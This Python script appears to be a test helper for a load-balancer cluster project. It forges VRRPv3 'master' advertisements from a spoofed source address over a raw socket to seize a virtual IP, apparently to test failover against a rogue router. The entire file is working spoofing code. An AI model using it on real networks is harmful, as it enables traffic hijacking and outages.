# Copyright: (c) 2026, lvs.cluster contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""An attacker on the segment: forges VRRP version 3 adverts (RFC 5798) until told to stop.

Run inside the client's namespace: forge.py SOURCE PRIORITY TTL TARGET... sends to each target,
twice a second, what SOURCE would send as MASTER of virtual router 51. Ends with its standard input.
"""

from __future__ import annotations

import selectors
import socket
import struct
import sys

INTERVAL = 0.5  # s
VRRP = 112
VIP = "172.25.0.100"
ROUTER_ID = 51


def checksum(data: bytes) -> int:
    """Return the Internet checksum (RFC 1071)."""
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert(source: str, target: str, priority: int) -> bytes:
    """Return an advert with its checksum over the pseudo header, every 0.1 s as the real ones."""
    fields = (3 << 4 | 1, ROUTER_ID, priority, 1, 10)
    vip = socket.inet_aton(VIP)
    bare = struct.pack("!BBBBHH", *fields, 0) + vip
    pseudo = socket.inet_aton(source) + socket.inet_aton(target)
    pseudo += struct.pack("!BBH", 0, VRRP, len(bare))
    return struct.pack("!BBBBHH", *fields, checksum(pseudo + bare)) + vip


def packet(source: str, target: str, priority: int, ttl: int) -> bytes:
    """Return the whole IP packet; the kernel fills in length and checksum (raw(7))."""
    header = struct.pack("!BBHHHBBH", 0x45, 0xC0, 0, 0, 0, ttl, VRRP, 0)
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    return header + addresses + advert(source, target, priority)


def main() -> None:
    """Send until standard input ends."""
    source, priority, ttl, *targets = sys.argv[1:]
    waiting = selectors.DefaultSelector()
    waiting.register(sys.stdin, selectors.EVENT_READ)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while not waiting.select(INTERVAL):
            for target in targets:
                raw.sendto(packet(source, target, int(priority), int(ttl)), (target, 0))


if __name__ == "__main__":
    main()
